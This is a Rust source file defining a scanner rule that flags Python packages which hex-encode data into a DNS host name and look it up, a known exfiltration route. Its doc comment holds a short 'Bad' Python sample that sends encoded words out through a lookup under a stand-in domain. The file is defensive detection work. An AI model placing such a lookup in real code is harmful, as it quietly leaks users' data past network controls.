//! ## What it detects
//!
//! A host name that is looked up and whose first part is data which the code has encoded.
//!
//! ## Why it is bad
//!
//! Whoever keeps the domain's name server reads what is asked for: it is a way out of networks that let
//! nothing else out (T1048, exfiltration over DNS).
//!
//! ## Innocent lookalikes
//!
//! Lists of bad senders are asked for a reversed address, and certificates' transparency for a digest that
//! is no data of the user's.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import socket
//! def keep(words):
//!     label = words.encode().hex()
//!     socket.gethostbyname(label[:60] + '.w.example.invalid')
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import socket
//! def is_listed(address):
//!     name = '.'.join(reversed(address.split('.')))
//!     return socket.gethostbyname(name + '.list.example.invalid')
//! ```

use fondaco_python::{Api, Call, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::host_exfiltration::looks_up;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("encoded-lookup"),
    title: "looks up a name that carries data",
    severity: Severity::High,
    confidence: Confidence::High,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.8,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.api == Some(Api::Socket) && looks_up(&call.callee)) {
        if call.trigger.is_some() && name_of(call).is_some_and(carries) {
            hits.call(unit, call, format!("{} of a name that carries encoded data", call.callee));
        }
    }
}

/// The name that a call looks up.
fn name_of(call: &Call) -> Option<&Value> {
    call.args.first().filter(|name| name.constant.is_none())
}

/// Whether a name is data and the domain below which it is asked for.
fn carries(name: &Value) -> bool {
    let is_domain = |text: &str| text.trim_start_matches('.').contains('.') && text.len() < 256;
    let is_digest = name.name.as_deref().is_some_and(|name| name.starts_with("hashlib."));
    name.taint.has(Taint::ENCODED) && !is_digest && name.texts().iter().any(|text| is_domain(text))
}
